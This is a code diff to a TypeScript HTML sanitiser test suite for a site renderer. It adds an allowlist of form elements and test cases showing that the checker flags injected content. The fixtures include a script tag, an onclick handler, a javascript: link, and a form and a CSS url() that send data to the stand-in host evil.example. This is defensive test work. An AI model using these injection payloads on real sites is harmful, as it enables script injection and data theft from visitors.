@@ -20,6 +20,15 @@ const SHELL_ELEMENTS = new Set([
   'dojang-badge',
   'dojang-business',
 ]);
+/** Elements that only the renderer's forms have, and what they may do. */
+const FORM_ELEMENTS: Record<string, RegExp> = {
+  form: /^(?:method=post|action=\/form\/preview|accept-charset=utf-8|novalidate=)$/,
+  input:
+    /^(?:type=(?:text|email|tel|date|radio|checkbox)|name=(?:a\.[a-z0-9-]+|consent|homepage)|value=[\s\S]*|required=|checked=|maxlength=\d+|tabindex=-1|autocomplete=[a-z-]+)$/,
+  textarea: /^(?:name=a\.[a-z0-9-]+|rows=5|required=|maxlength=\d+|autocomplete=[a-z-]+)$/,
+  label: /^for=dojang-f[\d-]+$/,
+  button: /^type=submit$/,
+};
 const ATTRIBUTE =
   /^(?:id|class|title|lang|dir|hidden|role|aria-[a-z]+|href|target|rel|src|alt|width|height|loading|decoding|fetchpriority|srcset|sizes|start|reversed|type|value|open|name|colspan|rowspan|scope|span|datetime|viewBox|preserveAspectRatio|d|points|fill|stroke|fill-rule|transform|opacity|[xyr]|[xy][12]|[cr][xy]|stroke-[a-z]+|(?:fill|stroke)-opacity|content|charset|property)$/;
 const LINK = /^(?:https?:\/\/|mailto:|tel:|sms:|#|\/(?![/\\])|$)/;
@@ -40,9 +49,14 @@ function problemsOf(html: string): string[] {
   const problems: string[] = [];
   for (const element of document.querySelectorAll('*')) {
     const tag = element.localName;
-    if (!HTML_ELEMENTS.has(tag) && !SVG_ELEMENTS.has(tag) && !SHELL_ELEMENTS.has(tag)) problems.push(`element ${tag}`);
+    const own = FORM_ELEMENTS[tag];
+    if (own && tag !== 'form' && !element.closest('form')) problems.push(`${tag} outside of a form`);
+    if (!own && !HTML_ELEMENTS.has(tag) && !SVG_ELEMENTS.has(tag) && !SHELL_ELEMENTS.has(tag))
+      problems.push(`element ${tag}`);
     for (const { name, value } of element.attributes) {
-      if (!ATTRIBUTE.test(name)) problems.push(`attribute ${tag}.${name}`);
+      if (own?.test(`${name}=${value}`)) continue;
+      if (!ATTRIBUTE.test(name) || (own && /^(?:href|src|type|value|name|open)$/.test(name)))
+        problems.push(`attribute ${tag}.${name}`);
       if (name === 'href' && !LINK.test(value)) problems.push(`href ${value}`);
       if (name === 'src' && !isImage(value)) problems.push(`src ${value}`);
       if (name === 'srcset' && !isSrcset(value)) problems.push(`srcset ${value}`);
@@ -106,6 +120,10 @@ describe('no attack reaches a published page', () => {
   test('the checker itself detects forbidden content', () => {
     expect(problemsOf('<style></style><p onclick="hit()">x</p>')).toEqual(['attribute p.onclick']);
     expect(problemsOf('<style></style><a href="javascript:hit()">x</a>')).toEqual(['href javascript:hit()']);
+    expect(problemsOf('<style></style><form method=post action=//evil.example></form>')).toEqual([
+      'attribute form.action',
+    ]);
+    expect(problemsOf('<style></style><input name=consent>')).toEqual(['input outside of a form']);
     expect(problemsOf('<style></style><script>hit()</script>')).toEqual(['element script']);
     expect(problemsOf('<style>a{background:url(//evil.example)}</style>')).toEqual(['css url //evil.example']);
   });
